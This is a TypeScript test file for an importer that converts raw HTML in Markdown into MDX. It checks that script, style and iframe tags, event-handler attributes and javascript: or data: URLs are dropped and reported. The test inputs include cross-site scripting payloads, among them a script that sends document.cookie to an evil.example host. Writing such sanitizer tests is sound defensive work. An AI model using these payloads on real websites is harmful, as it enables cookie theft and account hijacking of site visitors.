import type { Paragraph, PhrasingContent, Root, RootContent } from 'mdast';
import remarkGfm from 'remark-gfm';
import remarkParse from 'remark-parse';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { describe, expect, it } from 'vitest';
import { parseMdx } from '../../src/lib/content/mdx.ts';
import { convertFlowHtml, convertHtml, convertInlineHtml } from '../../src/lib/import/html-to-mdx.ts';
import { IssueSink } from '../../src/lib/import/issues.ts';
import { serializeArticle } from '../../src/lib/import/serialize.ts';
import { convert as importMarkdown } from './convert.ts';

// the importer reads Markdown sources with GFM (src/lib/import/convert-markdown.ts)
const parser = unified().use(remarkParse).use(remarkGfm);

function issuesOf(sink: IssueSink): string[] {
  return sink.issues.map((i) => `${i.line}:${i.column} ${i.severity} ${i.rule}`);
}

/** The MDX body the importer would write for `tree`. */
function mdxOf(tree: Root): string {
  return serializeArticle({}, tree).replace(/^---\n\{\}\n---\n\n/, '');
}

/** Runs the whole-tree conversion over a Markdown source; the MDX must parse, as kb check will. */
function convert(markdown: string) {
  const sink = new IssueSink('doc.md');
  const tree = parser.parse(markdown);
  convertHtml(tree, sink);
  const mdx = mdxOf(tree);
  expect(() => parseMdx(mdx), mdx).not.toThrow();
  return { tree, mdx, issues: issuesOf(sink), reasons: sink.issues.map((i) => i.reason) };
}

/** The phrasing children of the first paragraph of `markdown`, converted inline. */
function inline(markdown: string) {
  const sink = new IssueSink('doc.md');
  const paragraph = parser.parse(markdown).children[0] as Paragraph;
  const children = convertInlineHtml(paragraph.children, sink);
  return {
    children,
    mdx: mdxOf({ type: 'root', children: [{ type: 'paragraph', children }] }),
    issues: issuesOf(sink),
    reasons: sink.issues.map((i) => i.reason),
  };
}

/** The top-level children of `markdown`, converted as flow. */
function flow(markdown: string) {
  const sink = new IssueSink('doc.md');
  const children = convertFlowHtml(parser.parse(markdown).children, sink);
  return { children, mdx: mdxOf({ type: 'root', children }), issues: issuesOf(sink), reasons: sink.issues.map((i) => i.reason) };
}

const types = (nodes: readonly (PhrasingContent | RootContent)[]) =>
  nodes.map((n) => (n.type.startsWith('mdxJsx') ? `<${(n as { name: string }).name}>` : n.type));

describe('convertInlineHtml', () => {
  it('turns tags with a Markdown form into Markdown', () => {
    expect(inline('<b>Bold</b>, <i>it</i>, <s>old</s>, <code>ipconfig /all</code> and <a href="https://example.com">a link</a>').mdx).toBe(
      '**Bold**, _it_, ~~old~~, `ipconfig /all` and [a link](https://example.com)\n',
    );
  });

  it('keeps inline elements without a Markdown form as JSX with their content', () => {
    const { children, mdx } = inline('Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, then H<sub>2</sub>O');
    expect(types(children)).toEqual(['text', '<kbd>', 'text', '<kbd>', 'text', '<sub>', 'text']);
    expect(mdx).toBe('Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, then H<sub>2</sub>O\n');
  });

  it('writes line breaks and anchors as self-closing JSX', () => {
    expect(inline('One<br>two</br>three<br/>four <a name="step-2"></a>').mdx).toBe('One<br />two<br />three<br />four <a id="step-2" />\n');
  });

  it('keeps placeholders such as <user> and <ServerName> as text', () => {
    const { children, mdx, issues } = inline('Run ping <ServerName> as <user>.');
    expect(children.every((c) => c.type === 'text')).toBe(true);
    expect(mdx).toBe('Run ping \\<ServerName> as \\<user>.\n');
    expect(issues).toEqual([]);
  });

  it('turns comments into MDX comments that a */ inside cannot end early', () => {
    expect(inline('Text <!-- TODO: check */ this --> more').mdx).toBe('Text {/* TODO: check * / this */} more\n');
  });

  it('decodes character references in HTML text', () => {
    expect(inline('<span>a&nbsp;&amp;&#8211;b</span>').children).toMatchObject([
      { type: 'mdxJsxTextElement', children: [{ type: 'text', value: 'a\u00a0&–b' }] },
    ]);
  });

  it('keeps the content of an unclosed tag, drops the tag and reports it where it opened', () => {
    const { mdx, issues } = inline('Line one\nthen <b>bold to the end');
    expect(mdx).toBe('Line one\nthen bold to the end\n');
    expect(issues).toEqual(['2:6 warning html-unclosed']);
  });

  it('removes a closing tag that nothing opened, and says so', () => {
    const { mdx, issues } = inline('Text</b> more');
    expect(mdx).toBe('Text more\n');
    expect(issues).toEqual(['1:5 info html-unopened']);
  });

  it('drops style and on… attributes and reports them', () => {
    const { mdx, issues } = inline('<span class="ui" style="color:red" onclick="alert(1)">OK</span>');
    expect(mdx).toBe('<span class="ui">OK</span>\n');
    expect(issues).toEqual(['1:1 info html-attribute']);
  });

  it.each([
    ['script', 'Text <script>alert(document.cookie)</script> after.'],
    ['style', 'Text <style>body{display:none}</style> after.'],
    ['iframe', 'Text <iframe src="https://evil.example/frame"></iframe> after.'],
    ['object', 'Text <object data="x.swf"><embed src="x.swf"></object> after.'],
  ])('drops an inline <%s> with its content and reports it', (name, markdown) => {
    const { mdx, issues, reasons } = inline(markdown);
    expect(reasons[0]).toContain(`<${name}>`);
    expect(mdx).toBe('Text  after.\n');
    expect(issues).toEqual(['1:6 warning html-dropped']);
  });
});

describe('convertFlowHtml', () => {
  it('wraps the Markdown between an opening and a closing block tag in JSX', () => {
    const { children, mdx } = flow('<details>\n<summary>Show the log</summary>\n\nRun **Get-Log** now.\n\n</details>\n');
    expect(types(children)).toEqual(['<details>']);
    const details = children[0] as RootContent & { children: RootContent[] };
    expect(types(details.children)).toEqual(['<summary>', 'paragraph']);
    expect(details.children[1]).toMatchObject({
      type: 'paragraph',
      children: [{ type: 'text', value: 'Run ' }, { type: 'strong' }, { type: 'text', value: ' now.' }],
    });
    expect(() => parseMdx(mdx)).not.toThrow();
  });

  it('turns <p> into a paragraph and a plain <h2> into a heading', () => {
    const { children } = flow('<h2>Resolution</h2>\n\n<p>Restart the spooler.</p>\n');
    expect(children).toMatchObject([
      { type: 'heading', depth: 2, children: [{ type: 'text', value: 'Resolution' }] },
      { type: 'paragraph', children: [{ type: 'text', value: 'Restart the spooler.' }] },
    ]);
  });

  it('keeps an id of an unclosed block as an anchor, so links to it still work', () => {
    const { mdx, issues } = flow('<div id="step-3">\n\nDo this.\n');
    expect(mdx).toBe('<a id="step-3" />\n\nDo this.\n');
    expect(issues).toEqual(['1:1 warning html-unclosed']);
  });

  it('drops on… handlers on block elements and reports them', () => {
    const { mdx, issues } = flow('<div onmouseover="alert(1)" class="note">\n\nInside\n\n</div>\n');
    expect(mdx).toBe('<div class="note">\n  Inside\n</div>\n');
    expect(issues).toEqual(['1:1 info html-attribute']);
  });

  it('turns a comment block into an MDX comment', () => {
    expect(types(flow('<!-- internal: do not publish -->\n\nText\n').children)).toEqual(['mdxFlowExpression', 'paragraph']);
  });

  it.each([
    ['script', '<script type="text/javascript">\n  document.location = "https://evil.example/?" + document.cookie;\n</script>\n'],
    ['style', '<style type="text/css">\n  body { display: none }\n</style>\n'],
    ['iframe', '<iframe width="420" height="315" src="https://www.youtube.com/embed/R6_eWWfNB54" frameborder="0" allowfullscreen></iframe>\n'],
  ])('drops a <%s> block with its content and reports it at its place', (name, html) => {
    const { children, issues, reasons } = flow(`Intro.\n\n${html}\nOutro.\n`);
    expect(types(children)).toEqual(['paragraph', 'paragraph']);
    expect(issues).toEqual(['3:1 warning html-dropped']);
    expect(reasons[0]).toContain(`<${name}>`);
  });

  it('names the source of a dropped embed, so an author can link to it instead', () => {
    const { reasons } = flow('<iframe src="https://www.youtube.com/embed/R6_eWWfNB54"></iframe>\n');
    expect(reasons[0]).toContain('https://www.youtube.com/embed/R6_eWWfNB54');
  });
});

describe('convertHtml', () => {
  it('leaves no raw HTML anywhere in the tree: lists, quotes and table cells included', () => {
    const { tree } = convert('- item <b>one</b>\n- <kbd>F5</kbd>\n\n> quoted<br>text\n\n| a | b |\n|---|---|\n| x<br>y | <i>z</i> |\n');
    const html: string[] = [];
    visit(tree, 'html', (node) => {
      html.push(node.value);
    });
    expect(html).toEqual([]);
  });

  it("converts the deepest HTML first, so a block around Markdown keeps the Markdown's inline HTML", () => {
    const { mdx } = convert('<div class="box">\n\nPress <kbd>F5</kbd> and <b>wait</b>.\n\n</div>\n');
    expect(mdx).toBe('<div class="box">\n  Press <kbd>F5</kbd> and **wait**.\n</div>\n');
  });

  it('writes MDX that parses for hostile input, with nothing that runs', () => {
    const { tree, mdx } = convert(
      'Hi <img src="x.png" onerror="alert(1)"> <span onclick="alert(2)">x</span>\n\n<script>alert(3)</script>\n\n<div style="background:url(javascript:alert(4))">\n\nText\n\n</div>\n\n<style>*{}</style>\n',
    );
    const attributes: string[] = [];
    visit(tree, (node) => {
      if (node.type === 'mdxJsxFlowElement' || node.type === 'mdxJsxTextElement')
        for (const a of (node as { attributes: { name: string }[] }).attributes) attributes.push(a.name);
    });
    expect(attributes.filter((a) => a === 'style' || a.startsWith('on'))).toEqual([]);
    expect(mdx).not.toMatch(/<script|<style|alert\(3\)|onerror|onclick/i);
  });

  it('leaves a tree without HTML as it is', () => {
    const tree = parser.parse('## Title\n\nPlain *text* with `code`.\n');
    const before = structuredClone(tree);
    convertHtml(tree, new IssueSink('doc.md'));
    expect(tree).toEqual(before);
  });
});

// Links in raw HTML become Markdown links and JSX attributes here; the importer's link step then
// applies the one URL policy (src/lib/url-policy.ts, owned there). What a reader must never get:
describe('raw HTML links through the whole Markdown import', () => {
  it.each([
    ['a javascript: link', 'See <a href="javascript:alert(1)">the fix</a>.', 'the fix'],
    ['a data: link', 'See <a href="data:text/html;base64,PHNjcmlwdD4=">the fix</a>.', 'the fix'],
    ['an anchor with a javascript: href', 'See <a id="x" href="JavaScript:void(0)">the fix</a>.', 'the fix'],
    ['a javascript: image', 'See <img src="javascript:alert(1)" alt="the fix">.', 'the fix'],
    ['a javascript: cite on a quote', 'See <q cite="javascript:alert(1)">the fix</q>.', 'the fix'],
    ['a javascript: background on a table', '<table background="javascript:alert(1)"><tr><td>the fix</td></tr></table>', 'the fix'],
  ])('keeps the text of %s and drops the URL', (_name, markdown, text) => {
    const { mdx } = importMarkdown(`${markdown}\n`);
    expect(mdx).toContain(text);
    expect(mdx.toLowerCase()).not.toMatch(/javascript:|data:text/);
  });
});
